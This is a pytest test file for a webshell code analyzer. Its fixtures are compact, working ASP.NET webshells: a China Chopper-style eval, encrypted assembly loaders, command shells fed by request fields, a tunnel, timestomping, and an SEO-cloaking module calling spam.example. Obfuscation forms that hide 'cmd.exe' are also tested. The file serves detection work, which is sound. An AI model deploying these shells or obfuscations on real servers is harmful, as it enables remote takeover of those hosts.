"""The code analyzer on small shells written for these tests from published descriptions of each
technique (China Chopper, Behinder/Godzilla-style loaders, ASPXSpy-style managers, reGeorg-style
tunnels, SEO cloaking modules), and on benign look-alikes that must stay below medium."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from code_support import cs_page
from exhunt.codeanalysis import CodeReport, analysis, analyze_code
from exhunt.model import ProblemKind, Severity
from exhunt.rules import rule
from files_support import ASPNET_CLIENT, OWA_AUTH, by_rule, hunt, plain_file, server_file


def run(name: str, code: str) -> CodeReport:
    return analyze_code(code.encode(), name)


def chains(report: CodeReport) -> dict[str, str]:
    out: dict[str, str] = {}
    for cap in report.capabilities:
        out.setdefault(cap.rule_id, cap.chain)
    return out


def medium_or_above(report: CodeReport) -> list[str]:
    return [c.rule_id for c in report.capabilities if rule(c.rule_id).severity.rank >= 2]


# ----------------------------------------------------------------------------- capability chains

CHAIN_CASES = [
    (
        "aes-assembly.aspx",
        """<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %>
<%
byte[] k = Encoding.Default.GetBytes("e45e329feb5d925b");
byte[] c = Request.BinaryRead(Request.ContentLength);
Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);
%>""",
        "EXH-WS-CODE-ASSEMBLY",
        ["the request body", "decrypts it with AES (Rijndael)", "loads it as an assembly"],
    ),
    (
        "session-assembly.aspx",
        """<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    byte[] data = Convert.FromBase64String(Request.Form["pass"]);
    data = Decrypt(data);
    if (Session["payload"] == null) {
        Session["payload"] = System.Reflection.Assembly.Load(data);
    } else {
        object o = ((System.Reflection.Assembly)Session["payload"]).CreateInstance("LY");
        o.Equals(Context);
    }
}
byte[] Decrypt(byte[] d) {
    for (int i = 0; i < d.Length; i++) { d[i] = (byte)(d[i] ^ 0x3c); }
    return d;
}
</script>""",
        "EXH-WS-CODE-ASSEMBLY",
        ["form field 'pass'", "base64-decodes it", "XOR-decodes it", "loads it as an assembly"],
    ),
    (
        "reflect-load.aspx",
        """<%@ Page Language="C#" %>
<%
var raw = new System.IO.BinaryReader(Request.InputStream).ReadBytes(Request.ContentLength);
var gz = new System.IO.Compression.GZipStream(new System.IO.MemoryStream(raw), System.IO.Compression.CompressionMode.Decompress);
var ms = new System.IO.MemoryStream(); gz.CopyTo(ms);
typeof(System.Reflection.Assembly).GetMethod("Lo" + "ad", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { ms.ToArray() });
%>""",
        "EXH-WS-CODE-ASSEMBLY",
        ["the request body", "decompresses it", "called by reflection as Assembly.Load"],
    ),
    (
        "chopper.aspx",
        """<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"un"+"safe");%>""",
        "EXH-WS-CODE-EVAL",
        ["request parameter 'z'", "evaluates it as script", '"unsafe"'],
    ),
    (
        "chopper-numeric-condition.aspx",
        # a number as the condition picks the option: JScript's truthiness, folded
        """<%@ Page Language="Jscript"%><%eval(Request.Item["z"], 1 ? "unsafe" : "x");%>""",
        "EXH-WS-CODE-EVAL",
        ["request parameter 'z'", '"unsafe"'],
    ),
    (
        "jscript-function.aspx",
        """<%@ Page Language="JScript" %>
<script runat="server">
function Page_Load(sender : Object, e : EventArgs) {
    var run : Function = new Function("r", Request.Form["code"]);
    Response.Write(run(Request));
}
</script>""",
        "EXH-WS-CODE-EVAL",
        ["form field 'code'", "evaluates it as script (new Function)"],
    ),
    (
        "jscript-decode.aspx",
        """<%@ Page Language="JScript" %>
<%
var p = System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Form("x")));
eval(p, String.fromCharCode(117, 110, 115, 97, 102, 101));
%>""",
        "EXH-WS-CODE-EVAL",
        ["form field 'x'", "base64-decodes it", "evaluates it as script", '"unsafe"'],
    ),
    (
        "scriptcontrol.aspx",
        """<%@ Page Language="C#" %>
<%
dynamic sc = Server.CreateObject("MSScriptControl.ScriptControl");
sc.Language = "VBScript";
sc.ExecuteStatement(Request.QueryString["code"]);
%>""",
        "EXH-WS-CODE-EVAL",
        ["query parameter 'code'", "evaluates it as script", ".ExecuteStatement"],
    ),
    (
        "codedom.aspx",
        """<%@ Page Language="C#" %>
<%
var provider = new Microsoft.CSharp.CSharpCodeProvider();
var opts = new System.CodeDom.Compiler.CompilerParameters();
var res = provider.CompileAssemblyFromSource(opts, Request.Form["src"]);
res.CompiledAssembly.CreateInstance("X");
%>""",
        "EXH-WS-CODE-COMPILE",
        ["form field 'src'", "compiles it as .NET code"],
    ),
    (
        "roslyn.cs",
        """using Microsoft.CodeAnalysis.CSharp.Scripting;
public class Run : System.Web.IHttpHandler {
    public void ProcessRequest(System.Web.HttpContext context) {
        var code = new System.IO.StreamReader(context.Request.InputStream).ReadToEnd();
        var r = CSharpScript.EvaluateAsync(code).Result;
        context.Response.Write(r);
    }
    public bool IsReusable { get { return false; } }
}""",
        "EXH-WS-CODE-COMPILE",
        ["the request body", "compiles it as .NET code", "in an HTTP handler"],
    ),
    (
        "psi.aspx",
        """<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    var psi = new System.Diagnostics.ProcessStartInfo();
    psi.FileName = new string(new char[] { 'c', 'm', 'd', '.', 'e', 'x', 'e' });
    psi.Arguments = "/c " + Request.Form["c"];
    psi.RedirectStandardOutput = true; psi.UseShellExecute = false;
    var p = System.Diagnostics.Process.Start(psi);
    Response.Write(p.StandardOutput.ReadToEnd());
}
</script>""",
        "EXH-WS-CODE-PROCESS",
        ["form field 'c'", "runs it as a command"],
    ),
    (
        "process-obj.aspx",
        """<%@ Page Language="C#" %>
<%
System.Diagnostics.Process p = new System.Diagnostics.Process();
p.StartInfo.FileName = "powershell.exe";
p.StartInfo.Arguments = "-enc " + Request.Headers["X-Task"];
p.Start();
%>""",
        "EXH-WS-CODE-PROCESS",
        ["request header 'X-Task'", "runs it as a command (Process.Start)"],
    ),
    (
        "vb-shell.aspx",
        """<%@ Page Language="VB" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    Dim cmd As String = Request.QueryString("q")
    Dim p As Process = Process.Start("cmd.exe", "/c " & cmd)
End Sub
</script>""",
        "EXH-WS-CODE-PROCESS",
        ["query parameter 'q'", "runs it as a command"],
    ),
    (
        "wscript.aspx",
        """<%@ Page Language="JScript" %>
<%
var sh = new ActiveXObject("WScript.Shell");
var ex = sh.Exec("cmd /c " + Request.Form["c"]);
Response.Write(ex.StdOut.ReadAll());
%>""",
        "EXH-WS-CODE-PROCESS",
        ["form field 'c'", "runs it as a command (wscript.shell.Exec)"],
    ),
    (
        "wmi.aspx",
        """<%@ Page Language="C#" %>
<%
var mc = new System.Management.ManagementClass("Win32_Process");
mc.InvokeMethod("Create", new object[] { Request["cmd"] });
%>""",
        "EXH-WS-CODE-PROCESS",
        ["request parameter 'cmd'", "runs it as a command (ManagementClass.InvokeMethod)"],
    ),
    (
        "writer.aspx",
        """<%@ Page Language="C#" %>
<%
string path = Request.Form["path"];
string body = Request.Form["content"];
System.IO.File.WriteAllText(path, body);
%>""",
        "EXH-WS-CODE-FILE-WRITE",
        ["form field 'path'", "form field 'content'", "writes it to a file the request names"],
    ),
    (
        "upload.aspx",
        """<%@ Page Language="C#" %>
<%
HttpPostedFile f = Request.Files[0];
f.SaveAs(Request.Form["dir"] + "\\\\" + f.FileName);
%>""",
        "EXH-WS-CODE-FILE-WRITE",
        ["form field 'dir'", "an uploaded file", "writes it to a file"],
    ),
    (
        "stomp.aspx",
        """<%@ Page Language="C#" %>
<%
string target = Request.QueryString["f"];
System.IO.File.SetCreationTime(target, new DateTime(2019, 3, 1));
System.IO.File.SetAttributes(target, System.IO.FileAttributes.Hidden);
%>""",
        "EXH-WS-CODE-FILE-MANAGE",
        ["query parameter 'f'", "re-dates"],
    ),
    (
        "stomp-utc.aspx",
        """<%@ Page Language="C#" %>
<%
string target = Request.QueryString["f"];
System.IO.File.SetLastWriteTimeUtc(target, new DateTime(2019, 3, 1, 0, 0, 0, DateTimeKind.Utc));
System.IO.Directory.SetLastAccessTime(System.IO.Path.GetDirectoryName(target), new DateTime(2019, 3, 1));
%>""",
        "EXH-WS-CODE-FILE-MANAGE",
        ["query parameter 'f'", "re-dates", "File.SetLastWriteTimeUtc"],
    ),
    (
        "sql.aspx",
        """<%@ Page Language="C#" %>
<%
var conn = new System.Data.SqlClient.SqlConnection(Request.Form["cs"]);
conn.Open();
%>""",
        "EXH-WS-CODE-SQL",
        ["form field 'cs'", "opens a database connection"],
    ),
    (
        "tunnel.aspx",
        """<%@ Page Language="C#" %>
<%
string host = Request.Headers["X-TARGET"];
int port = int.Parse(Request.Headers["X-PORT"]);
var sock = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork, System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp);
sock.Connect(new System.Net.IPEndPoint(System.Net.IPAddress.Parse(host), port));
Session["socket"] = sock;
%>""",
        "EXH-WS-CODE-TUNNEL",
        ["request header 'X-TARGET'", "uses it on a socket"],
    ),
    (
        "registry.aspx",
        """<%@ Page Language="C#" %>
<%
var key = Microsoft.Win32.Registry.LocalMachine.OpenSubKey(Request["key"]);
Response.Write(key.GetValue(Request["value"]));
%>""",
        "EXH-WS-CODE-REGISTRY",
        ["request parameter 'key'", "opens the registry key"],
    ),
    (
        "service.asmx",
        """<%@ WebService Language="C#" Class="Svc" %>
using System.Web.Services;
public class Svc : WebService {
    [WebMethod]
    public string Run(string command) {
        var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + command);
        return p.StandardOutput.ReadToEnd();
    }
}""",
        "EXH-WS-CODE-PROCESS",
        ["web-method parameter 'command'", "runs it as a command", "in a web method"],
    ),
    (
        "Global.asax",
        """<%@ Application Language="C#" %>
<script runat="server">
void Application_BeginRequest(object sender, EventArgs e) {
    string c = HttpContext.Current.Request.Headers["X-Debug-Token"];
    if (c != null) { System.Diagnostics.Process.Start("cmd.exe", "/c " + c); }
}
</script>""",
        "EXH-WS-CODE-PROCESS",
        ["request header 'X-Debug-Token'", "on every request (Global.asax Application_BeginRequest)"],
    ),
    (
        "h.ashx",
        """<%@ WebHandler Language="C#" Class="H" %>
public class H : System.Web.IHttpHandler {
    public void ProcessRequest(System.Web.HttpContext context) {
        byte[] b = System.Convert.FromBase64String(context.Request.Form["d"]);
        System.Reflection.Assembly.Load(b).CreateInstance("P").Equals(context);
    }
    public bool IsReusable { get { return true; } }
}""",
        "EXH-WS-CODE-ASSEMBLY",
        ["form field 'd'", "base64-decodes it", "loads it as an assembly", "in an HTTP handler"],
    ),
    (
        "control-cmd.aspx",
        """<%@ Page Language="C#" %>
<script runat="server">
protected void Go(object sender, EventArgs e) {
    var si = new System.Diagnostics.ProcessStartInfo();
    si.FileName = shellPath.Text;
    si.Arguments = "/c " + argBox.Text.Trim();
    System.Diagnostics.Process.Start(si);
}
</script>
<form runat="server"><asp:TextBox ID="shellPath" runat="server" Text="cmd.exe" />
<asp:TextBox ID="argBox" runat="server" /><asp:Button ID="b" runat="server" OnClick="Go" /></form>""",
        "EXH-WS-CODE-PROCESS",
        ["page control 'shellpath' (TextBox.text)", "runs it as a command"],
    ),
    (
        "control-sql.aspx",
        """<%@ Page Language="VB" %>
<script runat="server">
Sub Connect(sender As Object, e As EventArgs)
    Dim conn As New System.Data.OleDb.OleDbConnection(ConnStr.Value)
    conn.Open()
End Sub
</script>
<input type="hidden" id="ConnStr" runat="server" />""",
        "EXH-WS-CODE-SQL",
        ["page control 'connstr' (HtmlInputHidden.value)", "opens a database connection"],
    ),
    (
        "control-upload.aspx",
        """<%@ Page Language="C#" %>
<script runat="server">
protected void Up(object sender, EventArgs e) {
    string dir = Folder.SelectedValue;
    UpFile.PostedFile.SaveAs(System.IO.Path.Combine(dir, UpFile.FileName));
}
</script>
<asp:DropDownList ID="Folder" runat="server" /><asp:FileUpload ID="UpFile" runat="server" />""",
        "EXH-WS-CODE-FILE-WRITE",
        ["page control 'folder' (DropDownList.selectedvalue)", "page control 'upfile' (FileUpload.postedfile)"],
    ),
    (
        "viewstate-delete.aspx",
        """<%@ Page Language="C#" %>
<script runat="server">
protected void Del(object sender, EventArgs e) {
    System.IO.Directory.Delete(ViewState["cwd"] + "\\" + Request.Form["n"], true);
}
protected void Cd(object sender, EventArgs e) { ViewState["cwd"] = Cwd.Text; }
</script><asp:TextBox ID="Cwd" runat="server" />""",
        "EXH-WS-CODE-FILE-MANAGE",
        ["page control 'cwd' (TextBox.text)", "keeps it in the viewstate", "deletes, moves, re-dates or re-permits"],
    ),
    (
        "toolkit.aspx",
        """<%@ Page Language="C#" %>
<script runat="server">
protected void Run(object sender, EventArgs e) {
    var p = new System.Diagnostics.Process();
    p.StartInfo.FileName = "cmd.exe";
    p.StartInfo.Arguments = Helper.Quote(CmdLine.Text);
    p.Start();
}
protected void Kill(object sender, EventArgs e) { System.IO.File.Delete(Target.Text); }
protected void Query(object sender, EventArgs e) {
    using (var c = new System.Data.SqlClient.SqlConnection(Settings.Conn)) { c.Open(); }
}
</script>
<asp:TextBox ID="CmdLine" runat="server" /><asp:TextBox ID="Target" runat="server" />""",
        "EXH-WS-CODE-TOOLKIT",
        [
            "run commands (new Process, line 4)",
            "write or manage files (File.Delete, line 9)",
            "open databases",
            "in one page",
        ],
    ),
]


@pytest.mark.parametrize(("name", "code", "rule_id", "words"), CHAIN_CASES, ids=[c[0] for c in CHAIN_CASES])
def test_capability_chain(name: str, code: str, rule_id: str, words: list[str]) -> None:
    report = run(name, code)
    found = chains(report)
    assert rule_id in found, (found, report.problems)
    for word in words:
        assert word in found[rule_id], found[rule_id]
    assert not report.problems


def test_chain_names_the_lines() -> None:
    report = run("aes-assembly.aspx", CHAIN_CASES[0][1])
    cap = next(c for c in report.capabilities if c.rule_id == "EXH-WS-CODE-ASSEMBLY")
    assert cap.line == 5 and 4 in cap.lines


def test_seo_cloaking_in_global_asax() -> None:
    code = """<%@ Application Language="C#" %>
<script runat="server">
protected void Application_BeginRequest(object sender, EventArgs e) {
    string ua = Request.UserAgent.ToLower();
    if (ua.Contains("baiduspider") || ua.Contains("googlebot")) {
        Response.Write(new System.Net.WebClient().DownloadString("http://spam.example/" + Request.RawUrl));
        Response.End();
    }
}
</script>"""
    found = chains(run("Global.asax", code))
    assert "baiduspider" in found["EXH-WS-CODE-SEO-CLOAK"] and "googlebot" in found["EXH-WS-CODE-SEO-CLOAK"]


def test_page_that_only_instantiates_a_planted_class() -> None:
    code = '<%@ Page Language="C#" %><%@ Assembly Name="Contoso.Diag" %><% new Contoso.Diag.Probe("k3y").Run(this.Context); %>'
    found = chains(run("errorEE.aspx", code))
    assert "Contoso.Diag.Probe" in found["EXH-WS-CODE-PLANTED-DLL"]
    assert "assembly Contoso.Diag" in found["EXH-WS-CODE-PLANTED-DLL"]


def test_include_of_an_image() -> None:
    code = '<%@ Page Language="C#" %>\n<!-- #include file="logo.gif" -->\n<html></html>'
    found = chains(run("a.aspx", code))
    assert "logo.gif" in found["EXH-WS-CODE-INCLUDE"]


def test_embedded_assembly() -> None:
    blob = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA=="
    code = f'<%@ Page Language="C#" %><% System.Reflection.Assembly.Load(Convert.FromBase64String("{blob}")).CreateInstance("A"); %>'
    found = chains(run("e.aspx", code))
    assert "Windows executable" in found["EXH-WS-CODE-EMBEDDED-ASSEMBLY"]


# ----------------------------------------------------------------------------- folding forms

FOLD_CASES = [
    ("concatenation", 'string a = "cm" + "d." + "exe";', "cmd.exe"),
    ("String.Concat", 'string a = string.Concat("pow", "ers", "hell");', "powershell"),
    ("String.Join", 'string a = String.Join("", new string[] { "cmd", ".exe" });', "cmd.exe"),
    ("String.Format", 'string a = string.Format("{0}.{1}", "cmd", "exe");', "cmd.exe"),
    ("char array", "string a = new string(new char[] { 'c', 'm', 'd', '.', 'e', 'x', 'e' });", "cmd.exe"),
    (
        "int array",
        'string a = new string(new int[] { 99, 109, 100 }.Select(x => (char)x).ToArray()); string b = string.Concat((char)99, (char)109, (char)100, ".exe");',
        "cmd.exe",
    ),
    ("byte array", "string a = Encoding.ASCII.GetString(new byte[] { 99, 109, 100, 46, 101, 120, 101 });", "cmd.exe"),
    ("Reverse", 'string a = new string("exe.dmc".Reverse().ToArray());', "cmd.exe"),
    ("Array.Reverse", 'char[] c = "exe.dmc".ToCharArray(); Array.Reverse(c); string a = new string(c);', "cmd.exe"),
    ("Replace", 'string a = "cXmXdX.XeXxXe".Replace("X", "");', "cmd.exe"),
    ("Substring", 'string a = "zzzcmd.exezzz".Substring(3, 7);', "cmd.exe"),
    ("base64", 'string a = Encoding.UTF8.GetString(Convert.FromBase64String("Y21kLmV4ZQ=="));', "cmd.exe"),
    (
        "unicode base64",
        'string a = Encoding.Unicode.GetString(Convert.FromBase64String("YwBtAGQALgBlAHgAZQA="));',
        "cmd.exe",
    ),
    ("\\u escapes", 'string a = "\\u0063\\u006d\\u0064" + ".exe";', "cmd.exe"),
    ("locals", 'string x = "cm"; string y = x + "d"; y += ".exe"; string a = y.ToLower();', "cmd.exe"),
    ("lambda", 'Func<string, string> r = s => s.Replace("#", ""); string a = r("c#m#d#.#e#x#e");', "cmd.exe"),
    ("one-line method", 'string a = K("cmd");', "cmd.exe"),
]


@pytest.mark.parametrize(("form", "stmt", "expected"), FOLD_CASES, ids=[c[0] for c in FOLD_CASES])
def test_folding_form(form: str, stmt: str, expected: str) -> None:
    code = f"""<%@ Page Language="C#" %>
<script runat="server">
string K(string s) {{ return s + ".exe"; }}
void Page_Load(object o, EventArgs e) {{
    {stmt}
    System.Diagnostics.Process.Start(a, "/c " + Request["c"]);
}}
</script>"""
    report = run("f.aspx", code)
    assert expected in report.folded, (form, report.folded)
    assert "EXH-WS-CODE-HIDDEN-NAME" in chains(report)
    assert "EXH-WS-CODE-PROCESS" in chains(report)


def test_hex_literal_decoded() -> None:
    code = '<%@ Page Language="C#" %><% string h = "706f7765727368656c6c2e657865202d6e6f70"; Response.Write(Request["x"]); %>'
    report = run("h.aspx", code)
    assert any(s.startswith("powershell.exe") for s in report.folded)
    assert "EXH-WS-CODE-HIDDEN-NAME" in chains(report)


def test_vb_folding() -> None:
    code = """<%@ Page Language="VB" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    Dim n As String = StrReverse("exe.dmc")
    Dim m As String = Chr(99) & ChrW(109) & "d"
    Process.Start(n, Request.Form("a"))
End Sub
</script>"""
    report = run("v.aspx", code)
    assert "cmd.exe" in report.folded and "cmd" in report.folded
    assert "EXH-WS-CODE-PROCESS" in chains(report)


def test_comment_padded_tokens() -> None:
    code = '<%@ Page Language="Jscript"%><% e/*x*/v/*x*/a/*x*/l(Request.Item["z"], "unsafe"); %>'
    report = run("p.aspx", code)
    assert "eval (comment-padded)" in report.folded
    found = chains(report)
    assert "EXH-WS-CODE-EVAL" in found and "EXH-WS-CODE-HIDDEN-NAME" in found


# ----------------------------------------------------------------------------- benign look-alikes

BENIGN = [
    (
        "jscript-fixed-function.aspx",
        """<%@ Page Language="JScript" %>
<script runat="server">
function Page_Load(sender : Object, e : EventArgs) {
    var add : Function = new Function("x", "y", "return x + y;");
    Response.Write(add(int.Parse(Request["a"]), 2));
}
</script>""",
    ),
    (
        "grid.aspx",
        """<%@ Page Language="C#" CodeBehind="grid.aspx.cs" Inherits="Shop.Grid" %>
<asp:Repeater runat="server" ID="r"><ItemTemplate><%# Eval("Name") %> <%# Eval("Price", "{0:c}") %></ItemTemplate></asp:Repeater>
<%= Request.QueryString["page"] %>""",
    ),
    (
        "filemanager.aspx",
        """<%@ Page Language="C#" %>
<script runat="server">
void Upload_Click(object s, EventArgs e) {
    HttpPostedFile f = Request.Files["file"];
    string name = System.IO.Path.GetFileName(f.FileName);
    f.SaveAs(Server.MapPath("~/App_Data/uploads/") + name);
    System.IO.File.WriteAllText(Server.MapPath("~/App_Data/log.txt"), Request.Form["note"]);
    System.IO.File.Delete(Server.MapPath("~/App_Data/uploads/" + Request.QueryString["del"]));
}
</script>""",
    ),
    (
        "thumbs.ashx",
        """<%@ WebHandler Language="C#" Class="Thumbs" %>
public class Thumbs : System.Web.IHttpHandler {
    public void ProcessRequest(System.Web.HttpContext context) {
        var psi = new System.Diagnostics.ProcessStartInfo(@"C:\\Tools\\convert.exe", "-resize 64x64 in.png out.png");
        psi.UseShellExecute = false;
        System.Diagnostics.Process.Start(psi).WaitForExit();
        context.Response.WriteFile(context.Server.MapPath("~/thumbs/" + context.Request["id"] + ".png"));
    }
    public bool IsReusable { get { return true; } }
}""",
    ),
    (
        "mobile.aspx",
        """<%@ Page Language="C#" %>
<% if (Request.UserAgent.Contains("iPhone")) { Response.Redirect("~/m/"); } %>""",
    ),
    (
        "report.aspx",
        """<%@ Page Language="C#" %>
<%
var conn = new System.Data.SqlClient.SqlConnection(System.Configuration.ConfigurationManager.ConnectionStrings["main"].ConnectionString);
var cmd = new System.Data.SqlClient.SqlCommand("select * from t where id=@id", conn);
cmd.Parameters.AddWithValue("@id", Request.QueryString["id"]);
conn.Open();
%>""",
    ),
    (
        "plugin.aspx",
        """<%@ Page Language="C#" %>
<%
var asm = System.Reflection.Assembly.Load("Shop.Plugins");
var t = asm.GetType("Shop.Plugins.Widget");
Response.Write(Activator.CreateInstance(t));
%>""",
    ),
]


BENIGN += [
    (
        "icons.asmx",
        """<%@ WebService Language="C#" Class="Icons" %>
public class Icons : System.Web.Services.WebService {
    [System.Web.Services.WebMethod]
    public void DeleteIcon(string iconPath) {
        string path = Utils.GetAbsolutePath(string.Format("Modules/Logo/image/{0}", iconPath));
        System.IO.File.Delete(path);
        System.IO.File.Delete(@"D:\\Sites\\shop\\cache\\" + iconPath + ".thumb");
    }
}""",
    ),
    (
        "dashboard.ashx",
        """<%@ WebHandler Language="C#" Class="Dash" %>
public class Dash : System.Web.IHttpHandler {
    public void ProcessRequest(System.Web.HttpContext context) {
        var invoker = new WebServiceInvoker(new System.Uri("http://example.com/Dash.asmx"));
        context.Response.Write(invoker.InvokeMethod<string>("Dash", context.Request.Form["method"], new object[0]));
    }
    public bool IsReusable { get { return true; } }
}""",
    ),
    (
        "cms-upload.aspx",
        """<%@ Page Language="C#" %>
<script runat="server">
protected void Save(object sender, EventArgs e) {
    string folder = Server.MapPath("~/Content/Images/") + Category.SelectedValue;
    ImageUpload.SaveAs(System.IO.Path.Combine(Server.MapPath("~/Content/Images"), ImageUpload.FileName));
    System.IO.File.WriteAllText(Server.MapPath("~/App_Data/notes/" + Title.Text + ".txt"), Body.Text);
    System.IO.File.Delete(folder + "/" + System.IO.Path.GetFileName(OldImage.Value));
}
</script>
<asp:DropDownList ID="Category" runat="server" /><asp:FileUpload ID="ImageUpload" runat="server" />
<asp:TextBox ID="Title" runat="server" /><asp:TextBox ID="Body" runat="server" TextMode="MultiLine" />
<asp:HiddenField ID="OldImage" runat="server" />""",
    ),
    (
        "cms-export.aspx",
        """<%@ Page Language="C#" %>
<script runat="server">
protected void Export(object sender, EventArgs e) {
    string path = Server.MapPath("~/App_Data/export.csv");
    System.IO.File.WriteAllText(path, Report.Text);
    System.IO.File.Copy(path, Server.MapPath("~/App_Data/export-old.csv"), true);
}
</script>
<asp:TextBox ID="Report" runat="server" />""",
    ),
]


@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
def test_benign_look_alike(name: str, code: str) -> None:
    report = run(name, code)
    assert medium_or_above(report) == [], chains(report)


# ----------------------------------------------------------------------------- bounded cost


def test_deep_nesting_is_a_problem_not_a_crash() -> None:
    code = '<%@ Page Language="C#" %><% var x = ' + "(" * 5000 + "1" + ")" * 5000 + "; %>"
    started = time.monotonic()
    report = run("deep.aspx", code)
    assert time.monotonic() - started < 10
    assert report.problems and report.problems[0].kind == "limit"


def test_ten_megabyte_expression_is_bounded() -> None:
    code = '<%@ Page Language="C#" %><% Process.Start(Request["x"] + ' + '"a" + ' * 1_700_000 + '"b"); %>'
    assert len(code) > 10_000_000
    started = time.monotonic()
    report = run("huge.aspx", code)
    assert time.monotonic() - started < 30
    assert any("token by token" in p.message for p in report.problems)


def test_deadline_stops_the_analysis() -> None:
    # No time at all: the parse stops, and so does the token-level reader that would take over
    # (its grace is a share of the deadline), each a problem; the second says where it stopped.
    code = '<%@ Page Language="C#" %><% ' + 'var a = "x" + Request["y"];\n' * 10000 + " %>"
    report = analyze_code(code.encode(), "slow.aspx", deadline_s=0.0)
    assert [p.kind for p in report.problems] == ["timed-out", "timed-out"]
    assert "stopped at line 1:" in report.problems[1].message


def test_the_token_reader_after_a_deadline_has_a_grace_of_its_own(monkeypatch: pytest.MonkeyPatch) -> None:
    # The parse runs out; the token-level reader still reads the whole page in its grace, and
    # finds the command after a thousand statements the parse never reached.
    padding = 'var a = "x";\n' * 1000
    page = cs_page(padding + 'Process.Start("cmd.exe", "/c " + Request["c"]); System.Diagnostics.' + "<!--" * 6000)
    report = analyze_code(page.encode(), "slow.aspx", deadline_s=0.5)
    timed_out = [p for p in report.problems if p.kind == "timed-out"]
    assert len(timed_out) == 1 and "parsing" in timed_out[0].message, report.problems
    assert any(c.rule_id == "EXH-WS-CODE-PROCESS" for c in report.capabilities)
    # With no time and no grace the reader stops too, and says where: the host cannot be called clean.
    monkeypatch.setattr(analysis, "TOKEN_GRACE", 0.0)
    report = analyze_code(page.encode(), "slow.aspx", deadline_s=0.0)
    timed_out = [p for p in report.problems if p.kind == "timed-out"]
    assert len(timed_out) == 2 and "were not read" in timed_out[1].message, report.problems
    assert not any(c.rule_id == "EXH-WS-CODE-PROCESS" for c in report.capabilities)


def test_a_parse_that_runs_long_is_halted_at_the_deadline() -> None:
    # The grammar's error recovery takes time in the square of this run of `<!--` after a member
    # dot (about 8 s for 3,300 of them when it was not halted): the parse stops at the deadline,
    # is a recorded problem, and the code is read token by token.
    code = cs_page('Process.Start("cmd.exe", "/c " + Request["c"]); System.Diagnostics.' + "<!--" * 6000)
    began = time.monotonic()
    report = analyze_code(code.encode(), "slow.aspx", deadline_s=0.5)
    assert time.monotonic() - began < 10
    assert any(p.kind == "timed-out" and "parsing" in p.message for p in report.problems), report.problems
    assert "tokens:csharp" in report.readers


def test_binary_garbage_is_harmless() -> None:
    report = analyze_code(bytes(range(256)) * 100 + b"<% \xff\xfe %>", "g.aspx")
    assert medium_or_above(report) == []


# ----------------------------------------------------------------------------- in the file hunt


def test_file_hunt_reports_the_chain_with_file_facet(tmp_path: Path) -> None:
    shell = CHAIN_CASES[0][1].encode()
    found = by_rule(hunt(server_file(tmp_path, ASPNET_CLIENT + r"\system_web\x.aspx", shell)))
    f = found["EXH-WS-CODE-ASSEMBLY"]
    assert "decrypts it with AES" in (f.detail("chain") or "")
    assert f.evidence.line == 5 and "Assembly.Load" in (f.evidence.excerpt or "")
    assert f.file is not None and f.file.place == "aspnet-client" and f.file.path.endswith("x.aspx")
    assert f.file.sha256 == f.evidence.sha256


def test_file_hunt_raises_medium_code_findings_in_auth_folders(tmp_path: Path) -> None:
    stomp = next(c[1] for c in CHAIN_CASES if c[0] == "stomp.aspx").encode()
    in_auth = by_rule(hunt(server_file(tmp_path, OWA_AUTH + r"\s.aspx", stomp)))["EXH-WS-CODE-FILE-MANAGE"]
    assert in_auth.severity == Severity.HIGH and "raised" in (in_auth.detail("weight") or "")
    elsewhere = by_rule(hunt(server_file(tmp_path, r"C:\inetpub\wwwroot\app\s.aspx", stomp)))
    assert elsewhere["EXH-WS-CODE-FILE-MANAGE"].severity == Severity.MEDIUM


def test_file_hunt_finds_a_shell_fed_only_by_page_controls(tmp_path: Path) -> None:
    shell = next(c[1] for c in CHAIN_CASES if c[0] == "control-cmd.aspx").encode()
    assert b"request" not in shell.lower()
    found = by_rule(hunt(server_file(tmp_path, r"C:\inetpub\wwwroot\app\c.aspx", shell)))
    assert "page control 'shellpath'" in (found["EXH-WS-CODE-PROCESS"].detail("chain") or "")


def test_file_hunt_turns_limits_into_problems(tmp_path: Path) -> None:
    deep = b'<%@ Page Language="C#" %><% var x = Request["a"] + ' + b"(" * 3000 + b"1" + b")" * 3000 + b"; %>"
    result = hunt(plain_file(tmp_path, "deep.aspx", deep))
    problems = [e for e in result.errors if e.producer == "code-analysis"]
    assert problems and problems[0].kind == ProblemKind.LIMIT and problems[0].path.endswith("deep.aspx")


def test_code_rules_are_typed_and_checked_at_load() -> None:
    from exhunt.ruleparams import CodeFlowParams
    from exhunt.rules import read_rules

    assert rule("EXH-WS-CODE-PROCESS").params_as(CodeFlowParams).in_code_files
    assert not rule("EXH-WS-CODE-NATIVE-CODE").params_as(CodeFlowParams).in_code_files
    broken = """[EXH-WS-CODE-TEST]
version = 1
title = "t"
severity = "high"
category = "webshell"
implies = "suspicious"
detector = "code-flow"
explanation = "e"
capability = "teleport"
phrase = "p"
apis = ["Process.Start", "new  "]
"""
    rules, errors = read_rules(broken, "user/code.toml")
    assert rules == [] and {e.key for e in errors} == {"capability", "apis"}
    indexed = broken.replace('"teleport"', '"process"').replace('"new  "', '"Process.Start#x"')
    rules, errors = read_rules(indexed, "user/code.toml")
    assert rules == [] and {e.key for e in errors} == {"apis"}
    rules, errors = read_rules(indexed.replace("#x", "#1"), "user/code.toml")
    assert errors == [] and len(rules) == 1


def test_place_tiers_of_code_rules(tmp_path: Path) -> None:
    assert rule("EXH-WS-CODE-ASSEMBLY").outcome("unserved").implies == "suspicious"
    assert "no-custom-code" not in rule("EXH-WS-CODE-ASSEMBLY").outcomes  # critical stays critical
